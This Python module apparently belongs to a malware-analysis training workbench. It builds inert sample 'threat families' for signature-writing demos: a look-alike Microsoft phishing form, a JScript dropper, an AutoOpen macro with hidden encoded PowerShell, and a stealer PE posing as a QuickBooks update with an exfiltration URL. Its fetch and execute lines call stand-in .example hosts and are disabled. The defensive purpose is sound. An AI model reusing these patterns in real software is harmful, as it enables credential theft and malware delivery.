"""The demo's threat families: inert stand-ins with fixed byte markers rules are written against.

Nothing here does anything when opened: EICAR and GTUBE are the industry's test
strings, the "droppers" point at ``.example`` hosts, and every family carries a
``WBDEMO-*`` marker. The house ruleset (``signatures/rules``) has a rule for each
family with ``rule=True``; the one with ``rule=False`` is the demo's unknown sample
that the analyst's walkthrough writes a new signature for.
"""

from __future__ import annotations

import importlib.util
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from workbench.samples.archives import build_zip, build_zipcrypto_zip, nest_zip
from workbench.samples.documents import build_docx, build_html_page, build_pdf, build_rtf
from workbench.samples.mail import EICAR, GTUBE

ZIP_PASSWORD = "4471"

PHISH_HTML = build_html_page("Sign in to your account", """\
<div class="wbkit-phish-7">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="Microsoft">
<h2>Your voicemail is waiting</h2>
<p>Sign in to listen to your new voicemail message.</p>
<form action="https://login-micros0ft-verify.example/owa/auth.php" method="post">
<input type="email" name="login" placeholder="Email">
<input type="password" name="passwd" placeholder="Password">
<input type="submit" value="Sign in">
</form>
<script>var wbkit = "wbkit-phish-7"; document.forms[0].login.focus();</script>
</div>""").encode("utf-8")

JS_DROPPER = b"""// Payment details viewer
var _0xwb = ["WScript.Shell", "MSXML2.XMLHTTP", "ADODB.Stream", "%TEMP%\\\\inv.exe"];
var marker = "WBDEMO-JSDROP";
var sh = new ActiveXObject(_0xwb[0]);
var x = new ActiveXObject(_0xwb[1]);
x.open("GET", "http://cdn.badfiles.example/stage2.bin", false);
// x.send(); the demo never fetches anything
var path = sh.ExpandEnvironmentStrings(_0xwb[3]);
"""

MACRO_SOURCE = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim marker As String
    marker = "WBDEMO-MACRO"
    Dim cmd As String
    cmd = "powershell -nop -w hidden -enc " & "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
    ' Shell cmd, vbHide   (the demo never runs anything)
    Debug.Print "http://macro-drop.example/p.ps1"
End Sub
"""

PDF_JS = 'app.alert("Loading statement..."); /* WBDEMO-PDFJS */ app.launchURL("http://pdf-invoice.example/get.php?id=4471", true);'

RTF_VBS = (b'\' WBDEMO-RTFVBS\r\nSet s = CreateObject("WScript.Shell")\r\n'
           b'\' s.Run "http://rtf-drop.example/u.hta"\r\n')

LOADER_CONFIG = b"WBDEMO-LOADER-CFG|c2=http://c2.loader.example/gate.php|sleep=300|id=wb-0047\x00"

STEALER_STRINGS = [
    b"WbStealer/2.1",
    b"http://exfil.stealer.example/upload.php",
    b"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    b"WbUpdater",
    b"C:\\build\\wbstealer\\Release\\wbstealer.pdb",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) WbStealer",
    b"\\Google\\Chrome\\User Data\\Default\\Login Data",
]


@cache
def benign_pe() -> tuple[str, bytes]:
    """A real, benign Windows PE: a launcher that pip or setuptools ships, else a synthetic one."""
    for package, names in (("pip._vendor.distlib", ("t64.exe", "t32.exe", "w64.exe")),
                           ("setuptools", ("cli-64.exe", "cli-32.exe", "cli.exe"))):
        try:
            spec = importlib.util.find_spec(package)
        except (ImportError, ValueError):
            continue
        if spec is None or not spec.submodule_search_locations:
            continue
        for folder in spec.submodule_search_locations:
            for name in names:
                path = Path(folder) / name
                if path.is_file():
                    return name, path.read_bytes()
    from workbench.samples.pe import build_pe  # written for the tests; no launcher found

    return "launcher.exe", build_pe()


def _loader() -> bytes:
    return benign_pe()[1] + LOADER_CONFIG


def _stealer() -> bytes:
    """A synthetic PE with a stealer's tell-tale strings in .rdata and stealer-like imports."""
    from workbench.samples.pe import CODE, IDATA, Section, build_pe

    code = b"\x55\x8b\xec\x83\xec\x40\x53\x56\x57" + b"\x90" * 55 + b"\xc9\xc3"
    strings = b"\x00\x00".join(STEALER_STRINGS) + b"\x00"
    return build_pe(
        sections=[Section(".text", code, CODE), Section(".data", strings, IDATA)],
        imports={"kernel32.dll": ["GetProcAddress", "LoadLibraryA", "CreateFileA", "ExitProcess"],
                 "advapi32.dll": ["RegOpenKeyExA", "RegSetValueExA"],
                 "wininet.dll": ["InternetOpenA", "InternetConnectA", "HttpSendRequestA"],
                 "crypt32.dll": ["CryptUnprotectData"]},
        version_info={"CompanyName": "Intuit Inc.", "FileDescription": "QuickBooks Update",
                      "OriginalFilename": "qbupdate.exe"},
        timestamp=0x6720A1B0)


def _macro_doc() -> bytes:
    from workbench.samples.office import build_vba_document

    return build_vba_document(MACRO_SOURCE, kind="doc")


@dataclass(frozen=True)
class Threat:
    key: str
    family: str
    category: str            # rule name prefix: MAL, PHISH, SPAM, TEST
    filename: str
    description: str
    markers: tuple[bytes, ...]
    build: Callable[[], bytes]
    rule: bool = True        # the house ruleset covers it
    reason: str = "unknown-virus"


THREATS: tuple[Threat, ...] = (
    Threat("eicar", "EICAR", "TEST", "eicar.com", "The EICAR anti-virus test file",
           (EICAR,), lambda: EICAR),
    Threat("eicar-zip", "EICAR", "TEST", "invoice_8812.zip", "EICAR inside a zip",
           (EICAR,), lambda: build_zip([("invoice_8812.com", EICAR)])),
    Threat("eicar-zip-zip", "EICAR", "TEST", "statement.zip", "EICAR inside a zip inside a zip",
           (EICAR,), lambda: nest_zip("statement.com", EICAR, 2)),
    Threat("eicar-password-zip", "EICAR", "TEST", "secure_invoice.zip",
           f"EICAR in a ZipCrypto zip, password {ZIP_PASSWORD} given in the mail body",
           (EICAR,), lambda: build_zipcrypto_zip([("secure_invoice.com", EICAR)],
                                                 ZIP_PASSWORD.encode())),
    Threat("gtube", "GTUBE", "SPAM", "", "The GTUBE spam test string in a message body",
           (GTUBE,), lambda: GTUBE, reason="stuck"),
    Threat("phish-html", "VoicemailKit", "PHISH", "Voicemail_Message.html",
           "Credential-harvesting HTML page posting to a look-alike Microsoft host",
           (b"login-micros0ft-verify.example", b'name="passwd"', b"wbkit-phish-7"),
           lambda: PHISH_HTML),
    Threat("js-dropper", "WbJsDrop", "MAL", "Payment_Details.js",
           "JScript downloader using WScript.Shell and MSXML2.XMLHTTP",
           (b"WBDEMO-JSDROP", b"cdn.badfiles.example", b"WScript.Shell"), lambda: JS_DROPPER),
    Threat("macro-doc", "WbMacro", "MAL", "Invoice_4471.doc",
           "Word document with an AutoOpen VBA macro launching encoded PowerShell",
           (b"WBDEMO-MACRO", b"AutoOpen", b"macro-drop.example"), _macro_doc),
    Threat("pdf-js", "WbPdfJs", "MAL", "Statement_November.pdf",
           "PDF with an OpenAction JavaScript that opens a download URL",
           (b"WBDEMO-PDFJS", b"pdf-invoice.example", b"/JavaScript"),
           lambda: build_pdf("Statement November 2026", javascript=PDF_JS)),
    Threat("rtf-object", "WbRtfObj", "MAL", "Order_Confirmation.rtf",
           "RTF carrying an embedded OLE Package with a VBScript",
           (b"WBDEMO-RTFVBS".hex().encode(), b"\\objdata", b"{\\rtf1"),
           lambda: build_rtf("Please find the order confirmation below.",
                             embedded=("update.vbs", RTF_VBS))),
    Threat("pe-loader", "WbLoader", "MAL", "scan_0047.pdf.exe",
           "PE loader with its C2 configuration appended as an overlay",
           (b"WBDEMO-LOADER-CFG", b"c2.loader.example"), _loader),
    Threat("template-injection", "WbTemplate", "MAL", "Contract_Renewal.docx",
           "Word document fetching a remote macro template (external attachedTemplate)",
           (b"templates.office-cdn.example",),
           lambda: build_docx(["Contract renewal 2027", "Please enable editing."],
                              template_url="http://templates.office-cdn.example/Normal.dotm"),
           rule=False),
    Threat("stealer", "WbStealer", "MAL", "QuickBooks_Update.exe",
           "Credential stealer no signature knows yet (the walkthrough's sample)",
           tuple(STEALER_STRINGS[:2]), _stealer, rule=False),
)


def threat(key: str) -> Threat:
    for t in THREATS:
        if t.key == key:
            return t
    raise KeyError(key)
